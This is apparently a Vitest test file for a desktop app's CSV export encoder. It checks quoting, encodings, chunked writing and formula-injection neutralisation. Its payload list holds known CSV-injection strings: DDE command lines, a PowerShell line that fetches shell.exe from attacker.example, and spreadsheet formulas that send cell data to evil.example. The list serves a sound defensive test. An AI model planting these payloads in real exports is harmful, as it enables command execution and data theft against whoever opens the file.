/**
 * The CSV encoder (electron/main/export/csv.ts), checked by parsing its output back with an
 * independent parser (csv-parse) field by field.
 */
import { mkdtempSync, openSync, closeSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import type { CsvOptions } from '../../shared/contract.ts';
import {
  CSV_DELIMITERS,
  CsvFileWriter,
  createCsvRowEncoder,
  encodeCsv,
  encodeCsvField,
  neutralizeFormula,
  startsLikeFormula,
  type CsvValue,
} from '../../electron/main/export/csv.ts';

const DELIMITERS = ['comma', 'semicolon', 'tab'] as const;

/** Known CSV/formula-injection payloads (OWASP "CSV Injection", PayloadsAllTheThings). */
const INJECTION_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click here")`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
  `=WEBSERVICE("http://evil.example/"&A1)`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `=1+1`,
  `+1+1`,
  `-1+1`,
  `@A1`,
  `=A1;=B2`,
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  '=\n1+1',
  `="=1+1"`,
  `+"quoted, with comma"`,
];

/** Values that stress quoting and encodings. */
const HARD_VALUES: string[] = [
  '',
  'plain',
  'Zoë Ångström-Ñúñez',
  '東京都 千代田区',
  'مرحبا بالعالم',
  'emoji 👍🏽 and 🇩🇪',
  'say "hello"',
  '"',
  '""',
  'a,b',
  'a;b',
  'a\tb',
  'line1\nline2',
  'line1\r\nline2',
  'cr\ronly',
  ' leading and trailing ',
  "it's",
  'ends with quote"',
  '\u00a0non-breaking',
  'nul\0inside',
  '\uFEFFstarts with a BOM character',
  ...INJECTION_PAYLOADS,
];

function options(delimiter: CsvOptions['delimiter'], bom: boolean, neutralizeFormulas = true): CsvOptions {
  return { delimiter, bom, neutralizeFormulas };
}

function parseBack(text: string, o: CsvOptions): string[][] {
  return parse(text, { delimiter: CSV_DELIMITERS[o.delimiter], bom: o.bom, record_delimiter: '\r\n', relax_quotes: false }) as string[][];
}

/** What a cell should read as after parsing, per the documented rule. */
function expected(value: CsvValue, neutralize: boolean): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'string') return neutralize && startsLikeFormula(value) ? `'${value}` : value;
  return String(value);
}

describe('csv encoder', () => {
  const dir = mkdtempSync(join(tmpdir(), 'letterdesk-csv-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  for (const delimiter of DELIMITERS) {
    for (const bom of [false, true]) {
      for (const neutralize of [true, false]) {
        it(`round-trips hard values (${delimiter}, bom=${bom}, neutralize=${neutralize})`, () => {
          const o = options(delimiter, bom, neutralize);
          // Each hard value in every column position, next to other hard values.
          const rows: CsvValue[][] = HARD_VALUES.map((v, i) => [v, HARD_VALUES[(i + 7) % HARD_VALUES.length]!, i, -i, null, v]);
          const header = ['text', 'other', 'n', 'negative', 'empty', 'again'];
          const text = encodeCsv(header, rows, o);
          expect(text.startsWith('\uFEFF')).toBe(bom);
          expect(text.endsWith('\r\n')).toBe(true);
          const parsed = parseBack(text, o);
          expect(parsed[0]).toEqual(header);
          expect(parsed).toHaveLength(rows.length + 1);
          rows.forEach((row, i) => {
            expect(parsed[i + 1]).toEqual(row.map((v) => expected(v, neutralize)));
          });
        });
      }
    }
  }

  it('neutralises every known injection payload, and only those cells', () => {
    const o = options('comma', false);
    const text = encodeCsv(null, INJECTION_PAYLOADS.map((p) => [p, 'Harmless Name']), o);
    const parsed = parseBack(text, o);
    expect(parsed).toHaveLength(INJECTION_PAYLOADS.length);
    parsed.forEach((cells, i) => {
      expect(cells[0]).toBe(`'${INJECTION_PAYLOADS[i]}`);
      expect(cells[0]!.startsWith("'")).toBe(true);
      expect(cells[1]).toBe('Harmless Name');
    });
    for (const p of INJECTION_PAYLOADS) expect(startsLikeFormula(p)).toBe(true);
  });

  it('follows the documented rule exactly', () => {
    const o = options('comma', false);
    expect(neutralizeFormula('=1')).toBe("'=1");
    expect(neutralizeFormula('a=1')).toBe('a=1');
    expect(neutralizeFormula('')).toBe('');
    expect(neutralizeFormula(' =1')).toBe(' =1');
    // Text "-5" is neutralised; the number -5 is not.
    expect(encodeCsvField('-5', o)).toBe("'-5");
    expect(encodeCsvField(-5, o)).toBe('-5');
    expect(encodeCsvField(-5n, o)).toBe('-5');
    expect(encodeCsvField(2.5, o)).toBe('2.5');
    expect(encodeCsvField(true, o)).toBe('true');
    expect(encodeCsvField(null, o)).toBe('');
    expect(encodeCsvField(new TextEncoder().encode('=x'), o)).toBe("'=x");
    // The quote goes in before RFC 4180 quoting.
    expect(encodeCsvField('=1,2', o)).toBe(`"'=1,2"`);
    expect(encodeCsvField('+"a"', o)).toBe(`"'+""a"""`);
    // Turning the option off leaves the text as it is.
    expect(encodeCsvField('=1', options('comma', false, false))).toBe('=1');
  });

  it('quotes a field only when it holds the delimiter, a quote, CR or LF', () => {
    const row = (delimiter: CsvOptions['delimiter'], values: CsvValue[]) => createCsvRowEncoder(options(delimiter, false))(values);
    expect(row('comma', ['a', 'b c', 'x;y', 'x\ty'])).toBe('a,b c,x;y,x\ty\r\n');
    expect(row('comma', ['a,b', 'q"', 'l\nf', 'c\rr'])).toBe('"a,b","q""","l\nf","c\rr"\r\n');
    expect(row('semicolon', ['a,b', 'a;b'])).toBe('a,b;"a;b"\r\n');
    expect(row('tab', ['a,b', 'a;b', 'a\tb'])).toBe('a,b\ta;b\t"a\tb"\r\n');
    expect(row('comma', [null, undefined, ''])).toBe(',,\r\n');
    expect(row('comma', [])).toBe('\r\n');
  });

  it('writes large files in chunks that parse back row for row', () => {
    for (const delimiter of DELIMITERS) {
      for (const bom of [false, true]) {
        const o = options(delimiter, bom);
        const path = join(dir, `chunks-${delimiter}-${bom}.csv`);
        const fd = openSync(path, 'w');
        // A small chunk size forces many writes, some in the middle of multi-byte characters' rows.
        const writer = new CsvFileWriter(fd, o, 97);
        const rows: string[][] = [];
        let seed = 42;
        const alphabet = ['a', 'Z', ' ', ',', ';', '\t', '"', '\r', '\n', 'é', '日', '🎉', '=', '-', '+', '@', "'", '0'];
        for (let i = 0; i < 600; i++) {
          const row: string[] = [];
          for (let c = 0; c < 4; c++) {
            let s = '';
            const len = (seed = (seed * 1103515245 + 12345) % 2147483648) % 9;
            for (let k = 0; k < len; k++) s += alphabet[(seed = (seed * 1103515245 + 12345) % 2147483648) % alphabet.length];
            row.push(s);
          }
          rows.push(row);
          writer.writeRow([...row]);
        }
        writer.flush();
        closeSync(fd);
        const bytes = readFileSync(path);
        expect(writer.bytesWritten).toBe(bytes.length);
        expect(bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf).toBe(bom);
        const parsed = parseBack(bytes.toString('utf8'), o);
        expect(parsed).toEqual(rows.map((r) => r.map((v) => expected(v, true))));
      }
    }
  });
});
